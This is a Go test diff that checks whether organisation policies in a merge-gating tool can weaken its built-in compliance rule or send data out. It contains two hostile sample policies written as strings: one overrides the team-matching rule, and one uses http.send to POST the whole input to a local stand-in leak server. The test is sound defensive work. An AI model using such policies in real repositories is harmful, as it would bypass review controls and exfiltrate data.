@@ -6,15 +6,18 @@ import (
 	"crypto/rsa"
 	"crypto/x509"
 	"encoding/pem"
+	"fmt"
 	"io"
 	"log/slog"
 	"net"
 	"net/http"
+	"net/http/httptest"
 	"os"
 	"slices"
 	"strconv"
 	"strings"
 	"sync"
+	"sync/atomic"
 	"testing"
 	"time"
 
@@ -70,6 +73,8 @@ type options struct {
 	promotion  string
 	extraEdits func(r *gittest.Repo)
 	noConfig   bool // the base branch has no .modelgate/: not a repository modelgate watches
+	// baseEdits edit the base branch, before the promotion branches off.
+	baseEdits func(r *gittest.Repo)
 }
 
 func newWorld(t testing.TB, dsn string, o options) *world {
@@ -85,6 +90,9 @@ func newWorld(t testing.TB, dsn string, o options) *world {
 	r.CopyDir(examples)
 	if o.noConfig {
 		r.Remove(".modelgate")
+	}
+	if o.baseEdits != nil {
+		o.baseEdits(r)
 	}
 	r.Commit("example repository", now.Add(-96*time.Hour))
 	r.Branch("promote")
@@ -531,6 +539,50 @@ func TestPolicyEditJudgedByBase(t *testing.T) {
 			t.Fatal("merged")
 		}
 	})
+}
+
+// The base branch's own policies judge, but they can neither change the
+// built-in ones nor send the input anywhere.
+func TestOrganisationPoliciesCannotWeakenTheGate(t *testing.T) {
+	var received atomic.Int32
+	leak := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		received.Add(1)
+	}))
+	defer leak.Close()
+	tests := []struct {
+		file, src, want string
+	}{
+		{"teams.rego", "package modelgate.lib\n\n# Any team meets the compliance rule.\nteam_matches(_, _) if true\n",
+			".modelgate/policies/teams.rego:1:1: package modelgate.lib is a built-in package"},
+		{"leak.rego", fmt.Sprintf("package modelgate.acme\n\nwarn contains \"sent\" if {\n\thttp.send({\"method\": \"POST\", \"url\": %q, \"body\": input})\n}\n", leak.URL),
+			".modelgate/policies/leak.rego:4:2: undefined function http.send"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.file, func(t *testing.T) {
+			sqlstoretest.Each(t, func(t *testing.T, dsn string) {
+				w := newWorld(t, dsn, options{baseEdits: func(r *gittest.Repo) { r.Write(".modelgate/policies/"+tt.file, tt.src) }})
+				gh := w.gh
+				gh.AddTeamMember("acme", "risk", "dave")
+				n := w.open("alice")
+				head := gh.PullRequest(repoName, n).HeadSHA
+				w.deliver(gh.PullRequestEvent(repoName, n, "opened"), http.StatusAccepted)
+				// Two approvals, neither from compliance.
+				w.approve(n, "carol")
+				w.approve(n, "dave")
+				w.settle()
+
+				if gh.PullRequest(repoName, n).Merged {
+					t.Error("merged")
+				}
+				if cr := w.runs(head)[app.CheckPolicy]; cr.Conclusion != "failure" || !strings.Contains(cr.Summary, "policy.compile") || !strings.Contains(cr.Summary, tt.want) {
+					t.Errorf("policy check %s; want a policy.compile failure naming %s:\n%s", cr.Conclusion, tt.want, cr.Summary)
+				}
+				if n := received.Load(); n != 0 {
+					t.Errorf("a policy sent %d requests", n)
+				}
+			})
+		})
+	}
 }
 
 func TestDuplicateDeliveryProcessedOnce(t *testing.T) {
